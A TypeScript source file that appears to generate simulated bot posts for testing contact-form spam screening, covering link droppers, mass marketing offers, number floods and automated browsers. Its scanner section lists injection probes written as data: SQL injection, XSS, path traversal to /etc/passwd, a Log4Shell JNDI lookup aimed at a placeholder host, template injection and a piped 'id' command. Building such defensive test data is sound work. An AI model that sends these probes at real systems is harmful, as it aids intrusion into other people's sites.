/**
 * Simulates a thousand bot posts of the kinds that contact forms get: form fillers, link droppers, mass offers, vulnerability scanners,
 * floods of made-up numbers from one address or many, and automated browsers. A few behave like one careful person, which screening of
 * single posts cannot detect.
 */
import type { FormId } from '#app/forms/registry.ts'
import { type Chance, createChance } from './chance.ts'
import { HOUR_MS, MINUTE_MS, type SentPost, anyAddress, mobile } from './sent-post.ts'

const NAMES = [
  'James',
  'RobertTow',
  'Kristina',
  'Eric Jones',
  'Anna Petrova',
  'WilliamSap',
  'admin',
  'Priya',
  'Rahul Verma',
]
const HOSTS = ['best-casino777.com', 'rank-first-seo.net', 'cheap-pills.ru', 'bit.ly', 'crypto-profit.xyz', 't.me']
const LURES = [
  'Hi, I noticed that your website is not on the first page of Google. We can help you: {link}',
  'Make $5000 daily without investments {link} {link}',
  'Hello! Want to see me? {link}',
  'Cialis, Viagra without prescription [url={link}]buy now[/url] <a href="{link}">here</a> {link}',
  'Забирайте бонус без депозита {link} {link} {link}',
]
const OFFERS = [
  'Hello Sir/Madam, we are a leading digital marketing agency based in Noida with {n}+ happy clients. We offer SEO, Google Ads and social media at Rs. {n}999 per month. Kindly share your number so that we can discuss your requirements.',
  'I was looking at your website and found that it has {n} technical errors which stop it from ranking. I can email you the audit report free of cost. May I send it? Regards, business development manager.',
  'We provide verified databases of {n}0,000 customers in your city for bulk WhatsApp and SMS campaigns at the lowest rates in the market. Reply with interested to get a free sample today.',
  'Business loan up to {n}0 lakh without collateral in 24 hours, no income proof needed, approval for all CIBIL scores. Our executive will visit your office, give your mobile number and pan card.',
]
const PAYLOADS = [
  "1' OR '1'='1' -- ",
  "x' AND SLEEP(5)#",
  '1 UNION ALL SELECT NULL,NULL,version()',
  '"><script>alert(document.domain)</script>',
  '../../../../../../etc/passwd',
  '${jndi:ldap://{host}/a}',
  '{{7*7}}',
  'test|id',
  '<img src=x onerror=alert(1)>',
  'testing',
  'http://{host}/?poc',
]
const FILLER = ['Hello', 'hi', 'good', 'interested', 'call', 'asdf', 'qwerty test', 'ok', 'Nice site']

/** Kind, number out of a thousand, and behaviour. */
const KINDS: [string, number, (chance: Chance, count: number) => SentPost[]][] = [
  ['form filler', 180, formFillers],
  ['link dropper', 220, linkDroppers],
  ['mass offer', 150, massOffers],
  ['scanner', 120, scanner],
  ['flood from one address', 130, floodFromOne],
  ['flood from everywhere', 110, floodFromEverywhere],
  ['driven browser', 70, drivenBrowsers],
  ['careful bot', 20, carefulBots],
]

export function createBots(count: number, seed: number): SentPost[] {
  const chance = createChance(seed)
  return KINDS.flatMap(([kind, share, create]) =>
    create(chance, Math.round((share * count) / 1000)).map((post) => ({ ...post, kind })),
  )
}

const each = (count: number, create: (n: number) => SentPost) => Array.from({ length: count }, (_, n) => create(n))

function post(chance: Chance, changes: Partial<SentPost> & { comment?: string }): SentPost {
  const { comment = chance.pick(FILLER), ...rest } = changes
  return {
    kind: '',
    atMs: chance.whole(0, 24 * HOUR_MS),
    address: anyAddress(chance),
    headers: copiedHeaders(chance),
    form: chance.pick<FormId>(['contact', 'contact', 'city']),
    fields: { name: chance.pick(NAMES), phone: mobile(chance), comment },
    pageAgeH: null,
    honeypot: '',
    seconds: null,
    ...rest,
  }
}

/** Most libraries send no browser headers; many programs copy a browser's. */
const copiedHeaders = (chance: Chance): Record<string, string> =>
  chance.in(0.5) ? { 'Accept-Language': 'en-US,en;q=0.9' } : {}

const linkTo = (chance: Chance) => `https://${chance.pick(HOSTS)}/${chance.digits(6)}`
const lure = (chance: Chance) => chance.pick(LURES).replaceAll('{link}', () => linkTo(chance))
const page = (chance: Chance, share: number) => (chance.in(share) ? chance.spread(0.5) : null)

/** They read the page and fill in every field; every fifth skips hidden ones. */
function formFillers(chance: Chance, count: number) {
  return each(count, () =>
    post(chance, {
      comment: lure(chance),
      pageAgeH: page(chance, 0.9),
      honeypot: chance.in(0.8) ? linkTo(chance) : '',
    }),
  )
}

/** They record the form once and post to it for weeks. */
function linkDroppers(chance: Chance, count: number) {
  return each(count, () => post(chance, { comment: lure(chance), pageAgeH: page(chance, 0.3) }))
}

/** They send one text for a day, each time with another number, from rented addresses. */
function massOffers(chance: Chance, count: number) {
  return each(count, (n) => {
    const text = OFFERS[n % OFFERS.length]!.replaceAll('{n}', () => String(chance.whole(2, 99)))
    return post(chance, { comment: text, pageAgeH: page(chance, 0.5), atMs: chance.whole(9, 20) * HOUR_MS })
  })
}

/** Tries the fields one by one from one address, as fast as responses arrive. */
function scanner(chance: Chance, count: number) {
  const [address, begin] = [anyAddress(chance), 3 * HOUR_MS]
  return each(count, (n) =>
    post(chance, {
      address,
      atMs: begin + n * 1500,
      headers: {},
      comment: `${chance.pick(PAYLOADS).replaceAll('{host}', 'oast.example')}${n % 3 ? '' : chance.digits(3)}`,
      pageAgeH: 0,
    }),
  )
}

/** They post made-up numbers that waste the sales team's calls. */
function floodFromOne(chance: Chance, count: number) {
  const [address, begin] = [anyAddress(chance), 14 * HOUR_MS]
  return each(count, (n) =>
    post(chance, { address, atMs: begin + n * 2300, form: 'connect', fields: { phone: mobile(chance) } }),
  )
}

function floodFromEverywhere(chance: Chance, count: number) {
  const begin = 20 * HOUR_MS
  return each(count, () =>
    post(chance, {
      atMs: begin + chance.whole(0, 90) * MINUTE_MS,
      form: 'popup',
      fields: { name: chance.pick(NAMES), phone: mobile(chance) },
    }),
  )
}

/** Three bots in a farm use a real browser with scripts. That is expensive, so each post advertises something. */
function drivenBrowsers(chance: Chance, count: number) {
  const farm = [anyAddress(chance), anyAddress(chance), anyAddress(chance)]
  return each(count, () =>
    post(chance, {
      address: chance.pick(farm),
      atMs: chance.whole(10, 12) * HOUR_MS + chance.whole(0, 40) * MINUTE_MS,
      headers: { 'Accept-Language': 'en-US', 'Sec-Fetch-Site': 'same-origin' },
      pageAgeH: 0,
      seconds: chance.whole(0, 4),
      comment: chance.in(0.8) ? lure(chance) : chance.pick(FILLER),
    }),
  )
}

function carefulBots(chance: Chance, count: number) {
  return each(count, () =>
    post(chance, {
      headers: { 'Accept-Language': 'en-IN', 'Sec-Fetch-Site': 'same-origin' },
      pageAgeH: chance.spread(0.3),
      seconds: chance.whole(20, 90),
      comment: chance.pick(['Please send price', 'I want a demo', 'Call me tomorrow']),
    }),
  )
}
